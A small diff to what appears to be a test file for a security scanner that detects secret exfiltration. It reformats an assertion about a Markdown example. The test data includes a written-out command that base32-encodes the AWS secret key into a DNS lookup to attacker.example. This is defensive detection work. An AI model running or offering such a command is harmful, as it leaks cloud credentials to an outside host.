@@ -535,9 +535,7 @@ def test_a_secret_resolved_a_chunk_at_a_time_is_exfiltration_a_lookup_of_a_given
     )
     assert level2("scripts/dns.sh", tools) == []
     lesson = '```bash\ndig +short "$(echo $AWS_SECRET_ACCESS_KEY | base32).x.attacker.example"\n```\n'
-    assert "exfiltration" not in _rules(
-        level2("notes.md", lesson)
-    )  # a page's example: other rules judge it
+    assert "exfiltration" not in _rules(level2("notes.md", lesson))  # a page's example: other rules judge it
 
 
 def test_credential_files_walked_in_a_loop_and_returned_by_a_function_are_followed_to_the_send() -> None:
